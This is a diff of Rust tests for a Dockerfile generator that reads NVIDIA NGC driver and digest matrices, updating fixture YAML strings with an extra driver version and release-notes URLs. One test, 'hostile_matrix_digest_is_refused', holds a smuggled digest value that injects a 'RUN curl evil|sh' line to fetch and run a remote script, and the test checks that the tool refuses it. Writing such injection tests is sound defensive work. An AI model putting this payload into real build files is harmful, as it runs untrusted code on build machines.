@@ -208,8 +208,8 @@ fn digest_in_the_matrix_pins_the_from_line() {
 
     let (_d, m) = matrices_with(
         "ngc.yaml",
-        "min_driver: \"545\", datacenter_drivers: [\"525.85\", \"535.86\", \"545.23\"], source: \"matrix-facts §6 [J][M][T]\"}",
-        &format!("min_driver: \"545\", digest: \"{hex}\", source: \"x\"}}"),
+        "min_driver: \"545\", datacenter_drivers: [\"470.57\", \"525.85\", \"535.86\", \"545.23\"], source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
+        &format!("min_driver: \"545\", digest: \"{hex}\", source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;"),
     );
     let mut r = req(Stack::Ngc);
     r.ngc = Some("24.05".into());
@@ -228,8 +228,8 @@ fn hostile_matrix_digest_is_refused() {
     // The loader checks tags; a digest reaches the FROM line only through `validate::image_reference`.
     let (_d, m) = matrices_with(
         "ngc.yaml",
-        "min_driver: \"545\", datacenter_drivers: [\"525.85\", \"535.86\", \"545.23\"], source: \"matrix-facts §6 [J][M][T]\"}",
-        "min_driver: \"545\", digest: \"sha256:00\\nRUN curl evil|sh\"}",
+        "min_driver: \"545\", datacenter_drivers: [\"470.57\", \"525.85\", \"535.86\", \"545.23\"], source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
+        "min_driver: \"545\", digest: \"sha256:00\\nRUN curl evil|sh\", source: \"https://docs.nvidia.com/deeplearning/frameworks/pytorch-release-notes/rel-24-05.html;",
     );
     let mut r = req(Stack::Ngc);
     r.ngc = Some("24.05".into());
